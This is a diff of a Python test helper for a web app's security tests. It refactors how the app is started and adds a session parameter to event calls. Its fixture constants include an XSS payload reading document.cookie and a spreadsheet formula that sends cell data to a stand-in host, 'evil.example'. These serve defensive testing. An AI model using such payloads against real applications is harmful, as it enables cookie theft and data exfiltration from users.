@@ -4,10 +4,6 @@ All texts are made up, and the forces invented.
 """
 
 import json
-import os
-import socket
-import subprocess
-import sys
 import time
 from collections.abc import Iterator, Mapping
 from contextlib import contextmanager
@@ -24,6 +20,7 @@ from assistant.people.database import Database
 from assistant.people.sessions import Tokens
 from corpus import Corpus, Document, DocumentKind, Paragraph, ParagraphKind
 from corpus.command import Json
+from evals.serving import serving
 
 READER, OTHER, LIBRARIAN, VIEWER = "anna", "ben", "lena", "vera"
 PASSWORD = "correct horse battery staple"
@@ -31,8 +28,6 @@ PUBLIC, HIDDEN = "northshire-letter", "eastmoor-letter"
 SECRET = "quarantined hovercraft"  # words that stand in the embargoed letter and nowhere else
 MARKUP = '<img src=x onerror="alert(document.cookie)">'
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"press here")'
-_ROOT = Path(__file__).parent.parent.parent
-_UP = 180  # seconds until the app must serve
 _PATIENCE = 60.0
 
 
@@ -78,11 +73,20 @@ class Target:
         raise LookupError(f"There is no event {name} of {element}.")
 
     def send(
-        self, client: httpx.Client, element: str, name: str, data: list[Any] | None = None, told: Json | None = None
+        self,
+        client: httpx.Client,
+        element: str,
+        name: str,
+        data: list[Any] | None = None,
+        told: Json | None = None,
+        page: str = "",
     ) -> str:
-        """Set off an event of the page as a browser does; what it gave in all, as JSON. Raises `httpx.HTTPError`."""
+        """Set off an event of the page as a browser does; what it gave in all, as JSON. Raises `httpx.HTTPError`.
+
+        `page`: the open page of events that belong together; without it, a new one.
+        """
         number, count = self.event(element, name)
-        session = f"{time.monotonic_ns():x}"
+        session = page or f"{time.monotonic_ns():x}"
         sent = {"data": data if data is not None else [None] * count, "fn_index": number, "session_hash": session}
         joined = client.post("/gradio_api/queue/join", json=sent | {"event_data": told})
         if joined.status_code != 200:
@@ -108,27 +112,13 @@ def running(folder: Path, models: Path | None = None) -> Iterator[Target]:
     _fill(folder)
     if models:
         (folder / "models").symlink_to(models, target_is_directory=True)
-    with socket.socket() as free:
-        free.bind(("127.0.0.1", 0))
-        port = free.getsockname()[1]
-    settings = {
-        "INSPECTION_DATA": str(folder),
-        "PORT": str(port),
-        "SIGN_IN": "accounts",
-        "USER_HEADER": "",
-        "MODEL": "",
-    }
-    app = subprocess.Popen(
-        [sys.executable, "app.py"], cwd=_ROOT, env={**os.environ, **settings}, stdout=subprocess.DEVNULL
-    )
-    target = Target(f"http://127.0.0.1:{port}", folder)
-    try:
-        _wait_for(target, app)
-        yield target
-    finally:
-        target.close()
-        app.terminate()
-        app.wait(30)
+    settings = {"INSPECTION_DATA": str(folder), "SIGN_IN": "accounts", "USER_HEADER": "", "MODEL": ""}
+    with serving(settings) as app:
+        target = Target(app.address, folder)
+        try:
+            yield target
+        finally:
+            target.close()
 
 
 def _fill(folder: Path) -> None:
@@ -165,18 +155,6 @@ def _put(corpus: Corpus, id: str, title: str, force: str, texts: list[str], emba
         for at, text in enumerate(texts, 1)
     )
     corpus.put(document, paragraphs)
-
-
-def _wait_for(target: Target, app: "subprocess.Popen[bytes]") -> None:
-    until = time.monotonic() + _UP
-    while time.monotonic() < until and app.poll() is None:
-        try:
-            if httpx.get(f"{target.address}/ready", timeout=10).status_code == 200:
-                return
-        except httpx.HTTPError:
-            pass
-        time.sleep(0.1)
-    raise RuntimeError("The app did not serve.")
 
 
 def leaked(text: str, *words: str) -> str:
